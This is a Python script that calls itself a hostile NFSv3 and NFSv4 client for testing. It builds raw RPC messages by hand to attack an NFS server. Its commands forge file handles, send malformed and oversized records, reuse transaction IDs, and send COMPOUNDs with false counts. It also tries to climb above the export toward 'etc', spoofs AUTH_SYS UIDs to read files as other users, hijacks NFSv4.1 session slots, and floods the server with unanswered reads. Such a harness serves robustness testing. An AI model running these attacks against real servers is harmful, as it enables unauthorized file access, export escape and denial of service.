"""A client of NFSv3 and NFSv4 that means harm, for tests: what it sends is made by hand.

    nfs_adversary.py SERVER EXPORT SOURCE UID COMMAND [ARGUMENT...]

SOURCE is the address that it calls from, UID the user that it says to be. Prints what came of it, a line an attempt.
"""
import os
import socket
import struct
import sys

NFS, MOUNT = 100003, 100005
GETATTR, LOOKUP, ACCESS, READ, WRITE, CREATE, REMOVE = 1, 3, 4, 6, 7, 8, 12
# Of NFSv4.
GETATTR4, GETFH, LOOKUP4, LOOKUPP, PUTFH, PUTROOTFH, READ4, WRITE4 = 9, 10, 15, 16, 22, 24, 25, 38
EXCHANGE_ID, CREATE_SESSION, SEQUENCE = 42, 43, 53
LAST = 1 << 31
server, export, source, uid = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])


class Closed(Exception):
    pass


def opaque(data):
    return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)


def call(xid, program, procedure, arguments, user=None, version=3):
    user = uid if user is None else user
    credential = struct.pack(">I", 0) + opaque(b"adversary") + struct.pack(">III", user, user, 0)
    head = struct.pack(">IIIIIIII", xid, 0, 2, program, version, procedure, 1, len(credential)) + credential
    return head + struct.pack(">II", 0, 0) + arguments


class Client:
    def __init__(self):
        self.socket = socket.create_connection((server, 2049), 60, (source, 0))
        self.xid = int.from_bytes(os.urandom(3), "big")

    def send(self, record, mark=None):
        mark = LAST | len(record) if mark is None else mark
        self.socket.sendall(struct.pack(">I", mark) + record)

    def take(self, size):
        data = b""
        while len(data) < size:
            try:
                piece = self.socket.recv(size - len(data))
            except ConnectionResetError:
                piece = b""
            if not piece:
                raise Closed
            data += piece
        return data

    def reply(self):
        """Transaction number, status of RPC, results."""
        record = self.take(struct.unpack(">I", self.take(4))[0] & ~LAST)
        xid, _, denied = struct.unpack(">III", record[:12])
        if denied:
            return xid, "denied", record[12:]
        return xid, struct.unpack(">I", record[20:24])[0], record[24:]

    def ask(self, program, procedure, arguments, xid=None, user=None):
        if xid is None:
            self.xid += 1
        self.send(call(self.xid if xid is None else xid, program, procedure, arguments, user))
        return self.reply()

    def nfs(self, procedure, arguments, xid=None, user=None):
        """Status of NFS, or what RPC says, and the results."""
        _, said, results = self.ask(NFS, procedure, arguments, xid, user)
        if said != 0:
            return "rpc %s" % said, b""
        return struct.unpack(">I", results[:4])[0], results[4:]

    def compound(self, arguments):
        """Status of a COMPOUND, or what RPC says, and the results from their number on."""
        self.xid += 1
        self.send(call(self.xid, NFS, 1, arguments, version=4))
        _, said, results = self.reply()
        if said != 0:
            return "rpc %s" % said, b""
        tag = struct.unpack(">I", results[4:8])[0]
        return struct.unpack(">I", results[:4])[0], results[8 + tag + -tag % 4:]

    def root(self):
        _, said, results = self.ask(MOUNT, 1, opaque(export.encode()))
        assert said == 0 and results[:4] == b"\0" * 4, (said, results)
        length = struct.unpack(">I", results[4:8])[0]
        return results[8:8 + length]

    def lookup(self, folder, name):
        status, results = self.nfs(LOOKUP, opaque(folder) + opaque(name.encode()))
        assert status == 0, status
        length = struct.unpack(">I", results[:4])[0]
        return results[4:4 + length]


def op(number, *arguments):
    return struct.pack(">I", number) + b"".join(arguments)


def words(*numbers):
    return struct.pack(">%dI" % len(numbers), *numbers)


def compound(minor, *ops, count=None, tag=b""):
    return opaque(tag) + words(minor, len(ops) if count is None else count) + b"".join(ops)


def counted(statuses):
    print(" ".join("%s:%d" % (status, statuses.count(status)) for status in sorted(set(statuses), key=str)))


def handle_of(path):
    client = Client()
    print(client.lookup(client.root(), path).hex())


def use(handle):
    """A handle as it was given: attributes, and bytes."""
    client = Client()
    handle = bytes.fromhex(handle)
    status, _ = client.nfs(GETATTR, opaque(handle))
    read, _ = client.nfs(READ, opaque(handle) + struct.pack(">QI", 0, 100))
    print(status, read)


def forge(path):
    """Handles that differ in one bit from a good one, others of any length and content."""
    client = Client()
    good = client.lookup(client.root(), path)
    flipped = [bytes(b ^ (1 << bit) * (n == at) for n, b in enumerate(good)) for at in range(len(good)) for bit in range(8)]
    counted([client.nfs(GETATTR, opaque(handle))[0] for handle in flipped])
    made = [os.urandom(length) for length in range(65) for _ in range(8)]
    counted([client.nfs(GETATTR, opaque(handle))[0] for handle in made])
    print(client.nfs(GETATTR, opaque(good))[0])


def ends(what):
    """Sends something, and says whether the connection is cut off."""
    client = Client()
    try:
        what(client)
        client.socket.shutdown(socket.SHUT_WR)
        client.take(1)
        print("answered")
    except (Closed, BrokenPipeError, ConnectionResetError):
        print("cut off")


def records():
    ends(lambda client: client.send(b"", LAST | 0x7FFFFFFF))
    ends(lambda client: client.send(b"\0" * 1000, LAST | (2 << 20)))
    # Fragments that never end.
    ends(lambda client: [client.send(b"", 0) for _ in range(100_000)])
    ends(lambda client: [client.send(b"x" * 1024, 1024) for _ in range(10_000)])
    # A record that ends before its arguments do, and one whose handle says to be longer than the record.
    client = Client()
    root = client.root()
    print(client.nfs(GETATTR, b"")[0], client.nfs(GETATTR, struct.pack(">I", 32) + root[:8])[0])
    print(client.nfs(GETATTR, struct.pack(">I", 0xFFFFFFFF))[0])
    print(client.nfs(WRITE, opaque(root) + struct.pack(">QIII", 0, 8, 2, 1 << 31))[0])
    # One that is never sent to its end holds nobody else up.
    half = Client()
    half.socket.sendall(struct.pack(">I", LAST | 100) + b"\0" * 50)
    print(client.nfs(GETATTR, opaque(root))[0])


def reuse(path):
    """One transaction number for different calls, and for a copy."""
    client = Client()
    root = client.root()
    make = opaque(root) + opaque(path.encode()) + struct.pack(">IIIIIIII", 1, 1, 0o644, 0, 0, 0, 0, 0)
    remove = opaque(root) + opaque(path.encode())
    print(*[client.nfs(*what, xid=7)[0] for what in ((CREATE, make), (CREATE, make), (REMOVE, remove), (REMOVE, remove))])
    # The same again on another connection, in another order: each is a copy, answered as it was.
    again = Client()
    print(*[again.nfs(*what, xid=7)[0] for what in ((REMOVE, remove), (CREATE, make))])
    print(again.nfs(LOOKUP, opaque(root) + opaque(path.encode()))[0])


def down(path):
    """From the server's root to a file of the export."""
    return [op(PUTROOTFH)] + [op(LOOKUP4, opaque(name.encode())) for name in [export.strip("/"), path]]


def handle4_of(path):
    status, results = Client().compound(compound(0, *down(path), op(GETFH)))
    assert status == 0, status
    print(results[-struct.unpack(">I", results[36:40])[0]:].hex())


def use4(handle):
    print(Client().compound(compound(0, op(PUTFH, opaque(bytes.fromhex(handle))), op(READ4, bytes(16), words(0, 0, 100))))[0])


def compounds(handle):
    """COMPOUNDs that lie, and ways past the export."""
    client = Client()
    good = bytes.fromhex(handle)
    look = op(GETATTR4, words(1, 2))
    flipped = [bytes(b ^ (1 << at % 8) * (n == at) for n, b in enumerate(good)) for at in range(len(good))]
    counted([client.compound(compound(0, op(PUTFH, opaque(one)), look))[0] for one in flipped])
    lies = [
        compound(0, count=1 << 31),
        compound(0, look, count=2),
        words(1 << 31) + compound(0, op(PUTROOTFH)),
        compound(0, op(PUTFH, words(1 << 31))),
        compound(0, op(PUTFH, opaque(good)), op(WRITE4, bytes(16), words(0, 0, 2, 1 << 31))),
        compound(0, op(PUTFH, opaque(good)), op(GETATTR4, words(1 << 31))),
    ]
    print(*[client.compound(one)[0] for one in lies], sep=", ")
    above = down("")[:2] + [op(LOOKUPP)]
    out = client.compound(compound(0, *above, op(LOOKUP4, opaque(b"etc"))))[0]
    print(client.compound(compound(0, *[op(PUTROOTFH)] * 5000))[0], out, client.compound(compound(0, *above, op(LOOKUPP)))[0])
    print(client.compound(compound(0, op(PUTFH, opaque(good)), look))[0])


def session():
    """A session of NFSv4.1."""
    client = Client()
    owner = os.urandom(8) + opaque(os.urandom(8))
    status, results = client.compound(compound(1, op(EXCHANGE_ID, owner, words(0, 0, 0))))
    assert status == 0, status
    channel = words(0, 65536, 65536, 65536, 16, 8, 0)
    status, results = client.compound(
        compound(1, op(CREATE_SESSION, results[12:24], words(0), channel, channel, words(0x40000000, 1, 0)))
    )
    assert status == 0, status
    return client, results[12:28]


def read_in(client, place, path):
    """Reads a file at a place in a session: the status, and the data."""
    read = op(READ4, bytes(16), words(0, 0, 100))
    status, results = client.compound(compound(1, op(SEQUENCE, place, words(1)), *down(path), read))
    return status, results[-8:].rstrip(b"\0").decode(errors="replace") if status == 0 else ""


def read_once(path):
    client, identity = session()
    place = identity + words(1, 0, 0)
    print(place.hex(), *read_in(client, place, path))


def steal(place, path):
    """Asks for one file where another one has asked for another."""
    print(*read_in(Client(), bytes.fromhex(place), path))


def spoof(path, other):
    """Reads a file as oneself, then as somebody whom one says to be."""
    client = Client()
    handle = client.lookup(client.root(), path)
    read = opaque(handle) + struct.pack(">QI", 0, 100)
    print(client.nfs(READ, read)[0], client.nfs(READ, read, user=int(other))[0])


def flood(path, count):
    """Calls without taking a reply; ends when no more are taken."""
    client = Client()
    handle = client.lookup(client.root(), path)
    client.socket.settimeout(5)
    sent = 0
    try:
        while sent < int(count):
            client.send(call(1_000_000 + sent, NFS, READ, opaque(handle) + struct.pack(">QI", 0, 65536)))
            sent += 1
    except TimeoutError:
        pass
    print("stalled" if sent < int(count) else "all were taken", flush=True)
    # It stays, with all that it asked for, until it is told to go.
    sys.stdin.read()


commands = {"handle": handle_of, "use": use, "forge": forge, "records": records, "reuse": reuse, "spoof": spoof, "flood": flood}
commands |= {"handle4": handle4_of, "use4": use4, "compounds": compounds, "read-once": read_once, "steal": steal}
commands[sys.argv[5]](*sys.argv[6:])
